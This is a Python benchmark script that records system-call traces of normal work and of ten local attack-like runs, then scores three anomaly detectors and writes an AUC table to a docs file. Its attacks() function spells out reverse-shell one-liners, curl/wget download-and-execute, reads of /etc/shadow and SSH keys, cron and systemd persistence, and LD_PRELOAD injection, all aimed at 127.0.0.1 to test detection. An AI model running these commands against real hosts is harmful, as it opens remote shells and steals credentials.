"""Baseline detectors on real traces of this machine: ~30 normal runs of ordinary work, ~10 attack-like
runs (all local and harmless), trained on part of the normal runs, scored on the rest; docs/ml.md."""
from __future__ import annotations

import random
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import numpy as np
from sklearn.metrics import roc_auc_score, roc_curve

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
from sensor.learn import modelfile, models, runs as runs_mod  # noqa: E402

SPLITS = 5  # random train/test splits of the normal runs, figures averaged over them
TRAIN = 20

C_SRC = "#include <stdio.h>\nint main(void){int s=0;for(int i=0;i<1000;i++)s+=i;printf(\"%d\\n\",s);return 0;}\n"
NORMAL = {
    "build": "cd {w} && gcc -O1 -o hello hello.c && ./hello > /dev/null && make -s -f Makefile.bench > /dev/null",
    "archive": "cd {w} && tar czf a.tgz src && mkdir -p x && tar xzf a.tgz -C x && rm -rf x a.tgz",
    "script": "cd {w} && python3 -c 'import json,sys; json.dump([i*i for i in range(5000)], open(\"sq.json\",\"w\"))' "
              "&& awk '{{s+=length($0)}} END {{print s}}' src/words > /dev/null && sed s/w/W/g src/words | sort -u | wc -l > /dev/null",
    "packages": "dpkg -l > /dev/null && dpkg -S /bin/ls > /dev/null && apt-cache policy bash > /dev/null",
    "webserver": "cd {w} && (python3 -m http.server {port} --bind 127.0.0.1 > /dev/null 2>&1 & echo $! > srv.pid) && "
                 "for i in $(seq 50); do curl -s --retry 5 --retry-connrefused --retry-delay 0 "
                 "http://127.0.0.1:{port}/src/words > /dev/null; done; kill $(cat srv.pid)",
    "files": "cd {w} && find /usr/share/doc -maxdepth 2 -name 'copyright' | head -50 | xargs sha256sum > sums && "
             "grep -c . sums > /dev/null && cp sums sums2 && rm sums sums2",
}


def attacks(w: Path, port: int, lib: str) -> dict[str, tuple[str, str]]:
    """name -> (shell, script); every one touches this machine only and undoes what it writes."""
    return {
        "reverse_shell_bash": ("/bin/bash", f"exec 0<>/dev/tcp/127.0.0.1/{port} 1>&0 2>&0; exec /bin/sh"),
        "reverse_shell_python": ("/bin/sh", "python3 -c 'import socket,subprocess,os;s=socket.create_connection("
                                 f"(\"127.0.0.1\",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];"
                                 "subprocess.call([\"/bin/sh\",\"-i\"])'"),
        "download_run_curl": ("/bin/sh", f"curl -sf http://127.0.0.1:{port}/payload.sh -o {w}/p.sh && chmod +x {w}/p.sh "
                              f"&& {w}/p.sh; rm -f {w}/p.sh"),
        "download_run_wget": ("/bin/sh", f"cd /dev/shm && wget -q http://127.0.0.1:{port}/payload.sh -O .x && sh .x; rm -f .x"),
        "credential_read_shadow": ("/bin/sh", "cat /etc/shadow /etc/gshadow > /dev/null; grep -h root /etc/shadow > /dev/null"),
        "credential_read_keys": ("/bin/sh", "find / -xdev -maxdepth 4 -name 'id_*' -path '*ssh*' 2>/dev/null | head | "
                                 "xargs -r cat > /dev/null; cat /etc/shadow > /dev/null"),
        "persistence_cron": ("/bin/sh", "f=/etc/cron.d/zz-sensor-bench; printf '# bench: never runs\\n' > $f && "
                             "chmod 644 $f && rm -f $f"),
        "persistence_service": ("/bin/sh", "f=/etc/systemd/system/zz-sensor-bench.service; "
                                "printf '[Unit]\\nDescription=bench, never enabled\\n' > $f && rm -f $f"),
        "ld_preload_archive": ("/bin/sh", f"export LD_PRELOAD={lib}; " + NORMAL["archive"].format(w=w)),
        "ld_preload_script": ("/bin/sh", f"export LD_PRELOAD={lib}; " + NORMAL["script"].format(w=w)),
    }


def trace(out: Path, label: str, script: str, shell: str = "/bin/sh"):
    r = subprocess.run([sys.executable, "-m", "sensor", "trace", "-o", str(out), "--label", label, "--",
                        shell, "-c", script], cwd=ROOT, capture_output=True, text=True, timeout=300,
                       stdin=subprocess.DEVNULL)
    if r.returncode not in (0, 1):
        raise SystemExit(f"{out.name}: {r.stderr.strip()}")


class Listener:
    """127.0.0.1: answers a shell that connects with a few commands; serves payload.sh over HTTP."""

    def __init__(self, www: Path):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.www = www
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                head = b""
                conn.settimeout(2)
                try:
                    head = conn.recv(4096)
                except socket.timeout:
                    pass
                if head.startswith(b"GET"):
                    body = (self.www / "payload.sh").read_bytes()
                    conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
                else:  # a shell: it says nothing first
                    conn.sendall(b"id\nuname -a\nexit\n")
                    conn.settimeout(10)
                    try:
                        while conn.recv(4096):
                            pass
                    except OSError:
                        pass


def free_port() -> int:
    """A port nothing listens on now (the kernel's pick), for the web server run to bind."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def record(root: Path) -> tuple[list[Path], list[Path]]:
    w = root / "work"
    (w / "src").mkdir(parents=True)
    (w / "src" / "words").write_text("\n".join(f"w{(i * 7919) % 1000}" for i in range(20000)) + "\n")
    (w / "hello.c").write_text(C_SRC)
    (w / "Makefile.bench").write_text("all: hello2\nhello2: hello.c\n\tgcc -O0 -o hello2 hello.c\n\trm -f hello2\n")
    (root / "www").mkdir()
    (root / "www" / "payload.sh").write_text("#!/bin/sh\necho payload ran > /dev/null\nuname -a > /dev/null\n")
    normal, attack = [], []
    for i in range(5):
        for kind, script in NORMAL.items():
            out = root / f"normal_{kind}_{i}"
            trace(out, "normal", script.format(w=w, port=free_port()))
            normal.append(out)
    listener = Listener(root / "www")
    lib = next(p for p in ("/lib/x86_64-linux-gnu/libz.so.1", "/usr/lib/x86_64-linux-gnu/libz.so.1") if Path(p).exists())
    try:
        for name, (shell, script) in attacks(w, listener.port, lib).items():
            out = root / f"attack_{name}"
            trace(out, f"attack:{name}", script, shell)
            attack.append(out)
    finally:
        listener.sock.close()
    return normal, attack


def detection_at(y: np.ndarray, s: np.ndarray, fpr_max: float = 0.01) -> float:
    fpr, tpr, _ = roc_curve(y, s)
    return float(tpr[fpr <= fpr_max].max())


def main():
    root = Path(tempfile.mkdtemp(prefix="sensor-ml-"))
    try:
        t0 = time.time()
        normal_dirs, attack_dirs = record(root)
        recorded = time.time() - t0
        runs = runs_mod.read(normal_dirs + attack_dirs)
        normal = [r for r in runs if r.kind == "normal"]
        attack = [r for r in runs if r.kind == "attack"]
        results = {}
        for method in ("stide", "ngram-freq", "iforest"):
            aucs, dets, trains, flagged, max_aucs = [], [], [], [], []
            params = models.check_params(method, None, None)
            for seed in range(SPLITS):
                order = normal[:]
                random.Random(seed).shuffle(order)
                train, held = order[:TRAIN], order[TRAIN:]
                t = time.time()
                doc = modelfile.train(train, method, params)
                trains.append(time.time() - t)
                _, model = modelfile.load_doc(doc)
                scored = modelfile.score(doc, model, held + attack)
                y = np.array([r["label"] != "normal" for r in scored])
                s = np.array([r["score"] for r in scored])
                aucs.append(roc_auc_score(y, s))
                max_aucs.append(roc_auc_score(y, [r["max_process_score"] for r in scored]))
                dets.append(detection_at(y, s))
                flagged.append((sum(r["anomalous"] for r in scored if r["label"] == "normal"),
                                sum(r["anomalous"] for r in scored if r["label"] != "normal")))
            results[method] = (np.mean(aucs), np.min(aucs), np.mean(dets), np.mean(trains),
                               np.mean([f[0] for f in flagged]), np.mean([f[1] for f in flagged]), np.mean(max_aucs))
        write_doc(results, len(normal), len(attack), recorded, sum(len(r.processes) for r in runs),
                  sum(len(p.calls) for r in runs for p in r.processes))
    finally:
        shutil.rmtree(root, ignore_errors=True)


def write_doc(results, n_normal, n_attack, recorded, procs, calls):
    rows = "\n".join(f"| {m} | {auc:.3f} | {low:.3f} | {det:.0%} | {fp:.1f} of {n_normal - TRAIN} | "
                     f"{tp:.1f} of {n_attack} | {t:.1f} s | {mx:.3f} |"
                     for m, (auc, low, det, t, fp, tp, mx) in results.items())
    table = (f"Measured by `bench/ml.py` on this machine ({n_normal} normal and {n_attack} attack-like runs, "
             f"{procs:,} processes, {calls:,} calls, recorded in {recorded:.0f} s); {SPLITS} random splits: "
             f"{TRAIN} normal runs to train, the other {n_normal - TRAIN} and every attack run to score.\n\n"
             "| method | AUC (mean) | AUC (worst split) | detection at 1 % FP | normal runs over the model's threshold "
             "| attack runs over it | training (with threshold) | AUC of the runs' highest process score |\n"
             "| --- | --- | --- | --- | --- | --- | --- | --- |\n"
             + rows + "\n")
    doc = ROOT / "docs" / "ml.md"
    text = doc.read_text()
    start, end = "<!-- bench/ml.py -->", "<!-- /bench/ml.py -->"
    a, b = text.index(start) + len(start), text.index(end)
    doc.write_text(text[:a] + "\n" + table + text[b:])
    print(table)


if __name__ == "__main__":
    main()
